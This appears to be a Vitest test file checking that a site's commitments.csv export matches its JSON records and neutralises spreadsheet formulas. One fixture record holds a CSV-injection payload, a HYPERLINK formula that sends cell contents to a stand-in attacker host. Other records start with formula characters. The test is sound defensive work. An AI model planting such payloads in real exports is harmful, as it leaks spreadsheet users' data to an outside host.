// commitments.csv as a spreadsheet user gets it: read back by an independent parser (Papa Parse),
// column by column against the commitments.json records, with a hostile title in the mix.
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadContent } from '../../src/lib/load.ts';
import type { CommitmentExport } from '../../src/lib/schema/export.ts';
import { makeAbsolute } from '../../src/site/absolute.ts';
import { commitmentsCsv, neutralise, toCsv } from '../../src/site/csv.ts';
import { CSV_COLUMNS, commitmentRecords } from '../../src/site/exports.ts';
import { makeUrls } from '../../src/site/urls.ts';
import { parseCsv } from '../support/csv.ts';

const loaded = loadContent(resolve(import.meta.dirname, '../fixtures/good'));
if (!loaded.ok) throw new Error('tests/fixtures/good does not load');
const records = commitmentRecords(loaded.graph, { urls: makeUrls('/'), absolute: makeAbsolute('https://reforms.example') });
const first = records[0] as CommitmentExport;
const hostile: CommitmentExport = {
  ...first,
  id: 'hostile-title',
  title: '=HYPERLINK("https://attacker.example/?d="&A1, "Click for the full text")',
  locator: '+44 20 7946 0000, "p. 3"',
  dueLabel: '-1 day',
  owners: ['@SUM(1+1)', 'Department for Education'],
  text: 'A line,\nwith "quotes", a comma\r\nand a CRLF.',
};

/** What each column holds, from the JSON record, before neutralising. */
const expected: Record<(typeof CSV_COLUMNS)[number], (c: CommitmentExport) => string> = {
  id: (c) => c.id,
  title: (c) => c.title,
  source: (c) => c.source,
  locator: (c) => c.locator,
  sourcePillar: (c) => c.sourcePillar,
  pillars: (c) => c.pillars.join('; '),
  recommendation: (c) => (c.recommendation === undefined ? '' : String(c.recommendation)),
  due: (c) => c.due ?? '',
  dueLabel: (c) => c.dueLabel ?? '',
  owners: (c) => c.owners.join('; '),
  funding: (c) => c.funding.map((f) => [f.amount, f.purpose, f.period].filter(Boolean).join(', ')).join('; '),
  status: (c) => c.status.value,
  statusAsOf: (c) => c.status.asOf,
  statusChecked: (c) => c.status.checked,
  developments: (c) => c.status.developments.map((d) => `${d.date} ${d.kind}`).join('; '),
  legislation: (c) => c.legislation.map((law) => `${law.act}${law.section ? ` s.${law.section}` : ''} (${law.inForce})`).join('; '),
  responseStance: (c) => c.response?.stance ?? '',
  text: (c) => c.text,
  permalink: (c) => c.permalink,
};

describe('commitments.csv', () => {
  const all = [...records, hostile];
  const rows = parseCsv(commitmentsCsv(all));

  it('has the header, then one row per record, in order', () => {
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1).map((row) => row[0])).toEqual(all.map((c) => c.id));
  });

  it.each(CSV_COLUMNS.map((column, index) => [column, index] as const))('column %s holds the JSON value of every record', (column, index) => {
    expect(rows.slice(1).map((row) => row[index])).toEqual(all.map((c) => neutralise(expected[column](c))));
  });

  it("writes the fixture's status history and Act sections as tests/fixtures/good/sources/beta-2023.md has them", () => {
    const row = rows.find((r) => r[0] === 'beta-staying-close-rollout') ?? [];
    const cell = (column: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(column)];
    expect(cell('status')).toBe('in-progress');
    expect(cell('statusAsOf')).toBe('2024-01');
    expect(cell('statusChecked')).toBe('2026-12-01');
    expect(cell('developments')).toBe('2023-09 extended; 2024-01 legislated');
    expect(cell('legislation')).toBe('gamma-act-2026 s.7 (not-yet-in-force); gamma-act-2026 (not-known)');
  });

  it('neutralises every cell a spreadsheet would run as a formula, and only those', () => {
    const row = rows.at(-1) ?? [];
    expect(row[CSV_COLUMNS.indexOf('title')]).toBe(`'${hostile.title}`);
    expect(row[CSV_COLUMNS.indexOf('locator')]).toBe(`'${hostile.locator}`);
    expect(row[CSV_COLUMNS.indexOf('dueLabel')]).toBe("'-1 day");
    expect(row[CSV_COLUMNS.indexOf('owners')]).toBe("'@SUM(1+1); Department for Education");
    expect(row[CSV_COLUMNS.indexOf('text')]).toBe(hostile.text);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['1-2', '1-2'],
    ['email@example.org', 'email@example.org'],
    ['', ''],
  ])('writes %j as %j', (cell, written) => {
    expect(parseCsv(toCsv([[cell, 'x']]))[0]?.[0]).toBe(written);
  });
});
